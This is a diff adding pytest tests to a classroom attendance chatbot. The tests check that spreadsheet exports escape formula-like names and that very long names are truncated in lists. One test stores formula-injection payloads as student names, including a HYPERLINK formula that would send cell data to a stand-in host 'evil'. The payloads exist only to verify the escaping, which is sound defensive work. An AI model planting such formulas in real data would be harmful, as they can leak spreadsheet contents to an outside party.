@@ -8,7 +8,9 @@ import re
 
 import pytest
 
+from bot.database import is_sqlite
 from handlers.attendance import close_roll_calls
+from handlers.records import spreadsheet_safe
 from models import Outbox, RollCall, User
 from tests.conftest import simulator_for
 
@@ -188,3 +190,46 @@ def test_leave_a_class(say, klass):
     assert "已退出「概率论」" in say("o_s1", "退出课堂 1")
     assert "你还没有加入课堂" in say("o_s1", "我的课堂")
     assert "名单" in say("o_t", "名单") and "学生1" not in say("o_t", "名单")
+
+
+def test_export_cells_never_start_a_spreadsheet_formula(say, klass, client, teacher_school_join):
+    """Issue 10 item 5: a name written before names were validated, or a number like -1-1, stays text."""
+    hostile = {"o_s1": '=HYPERLINK("http://evil/?d="&A3,"成绩")', "o_s2": "@SUM(A1:A9)", "o_s3": "+1+2",
+               "o_s4": "\tcmd", "o_s5": "\r=1"}
+    for openid, name in hostile.items():
+        User.update(name=name).where(User.openid == openid).execute()
+    teacher_school_join("o_minus", "-1-1", "李雷")
+    say("o_t", "上课")
+    say("o_t", "开启签到 5")
+    say("o_t", "下课")
+    rows, _ = export_rows(client, say("o_t", "导出"))
+    cells = [cell for row in rows for cell in row]
+    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
+    names = {row[1] for row in rows[1:]}
+    # Lists show a name on one line, so the tab and CR fold away (and "\r=1" is then "=1").
+    assert {"'" + hostile["o_s1"], "'@SUM(A1:A9)", "'+1+2", "cmd", "'=1"} <= names
+    assert [spreadsheet_safe(v) for v in ("\tx", "\r=1", "-2", "2024001", 3)] == ["'\tx", "'\r=1", "'-2", "2024001", "3"]
+    assert ["'-1-1", "李雷"] == [row[:2] for row in rows if row[1] == "李雷"][0]
+
+
+@pytest.fixture
+def teacher_school_join(say, klass):
+    """Join the class as *openid* and answer the identity question with *number* and *name*."""
+    def join(openid, number, name):
+        assert "本课堂属于" in say(openid, f"加入 {klass}")
+        assert "姓名" in say(openid, number)
+        return say(openid, name)
+    return join
+
+
+def test_one_long_name_never_hides_the_rest_of_a_list(say, klass):
+    """Issue 10 item 6: a name stored before validation (700 characters) is cut short in 名单 and 签到情况."""
+    User.update(name="长" * (700 if is_sqlite() else 64)).where(User.openid == "o_s1").execute()  # PG: the column's max
+    say("o_t", "上课")
+    say("o_t", "开启签到 1")
+    say("o_t", "结束")
+    roster = say("o_t", "名单")
+    assert all(f"学生{i}" in roster for i in range(2, 7)) and "还有" not in roster
+    assert "长" * 39 + "…" in roster and "长" * 41 not in roster
+    report = say("o_t", "签到情况")
+    assert all(f"20240{i:02d}" in report for i in range(1, 7)) and "还有" not in report
